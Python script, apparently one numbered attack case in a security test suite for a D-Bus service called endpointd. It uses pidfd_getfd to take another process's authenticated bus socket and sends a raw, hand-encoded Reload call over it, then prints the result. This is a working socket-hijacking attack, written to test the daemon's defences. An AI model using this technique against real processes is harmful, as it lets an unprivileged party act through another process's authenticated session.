#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
# attack-04 (e): takes the genuine process's bus socket with pidfd_getfd()
# and sends Reload on its already authenticated connection, as raw D-Bus.
# Prints "ok", the error name, or "getfd: ERROR" when no socket could be
# taken.  attack-04-getfd.py PID
import ctypes
import os
import socket
import struct
import sys

SYS_pidfd_getfd = 438
libc = ctypes.CDLL(None, use_errno=True)


def pad(b, n=8):
    return b + b"\0" * (-len(b) % n)


def method_call(serial):
    # The header fields a(yv) start at offset 16, so aligning within them
    # aligns within the message: each field (a struct) to 8, each string
    # length to 4.
    fields = b""
    for code, sig, value in ((1, "o", "/org/endpointd/Endpoint1"), (2, "s", "org.endpointd.Policy1"),
                             (3, "s", "Reload"), (6, "s", "org.endpointd.Endpoint1")):
        fields = pad(fields)
        fields += struct.pack("<BB", code, len(sig)) + sig.encode() + b"\0"
        v = value.encode()
        fields += b"\0" * (-len(fields) % 4) + struct.pack("<I", len(v)) + v + b"\0"
    header = b"l" + bytes([1, 0, 1]) + struct.pack("<III", 0, serial, len(fields))
    return pad(header + fields)


def error_name(header):
    """The ERROR_NAME header field (code 4) of a message's header."""
    i = 16
    while i < len(header):
        i += -i % 8
        code, siglen = header[i], header[i + 1]
        sig = header[i + 2:i + 2 + siglen]
        i += 3 + siglen
        if sig in (b"s", b"o"):
            i += -i % 4
            n, = struct.unpack_from("<I", header, i)
            if code == 4:
                return header[i + 4:i + 4 + n].decode()
            i += 4 + n + 1
        elif sig == b"u":
            i += -i % 4 + 4
        elif sig == b"g":
            i += header[i] + 2
        else:
            break
    return "error"


pid = int(sys.argv[1])
pidfd = os.pidfd_open(pid)
sock = None
error = "no socket"
for n in range(3, 32):
    fd = libc.syscall(SYS_pidfd_getfd, pidfd, n, 0)
    if fd < 0:
        e = ctypes.get_errno()
        if e != 9:  # EBADF: no such fd, try the next
            error = os.strerror(e)
            break
        continue
    try:
        s = socket.socket(fileno=fd)
        if s.family == socket.AF_UNIX and s.getpeername():
            sock = s
            break
    except OSError:
        os.close(fd)
if sock is None:
    print("getfd: " + error)
    sys.exit(0)
sock.sendall(method_call(0x7777))
sock.settimeout(10)
data = b""
# Messages queued for the connection (e.g. NameAcquired, which its owner
# never read) come first: take them one by one until the answer to ours.
while True:
    while len(data) >= 16:
        fields_len, = struct.unpack_from("<I", data, 12)
        body_len, = struct.unpack_from("<I", data, 4)
        size = 16 + fields_len + (-fields_len % 8) + body_len
        if len(data) < size:
            break
        message, data = data[:size], data[size:]
        header = message[:16 + fields_len]
        if message[1] in (2, 3) and struct.pack("<I", 0x7777) in header[16:]:
            if message[1] == 2:
                print("ok")
            else:
                print(error_name(header))
            sys.exit(0)
    chunk = sock.recv(65536)
    if not chunk:
        print("disconnected")
        sys.exit(0)
    data += chunk
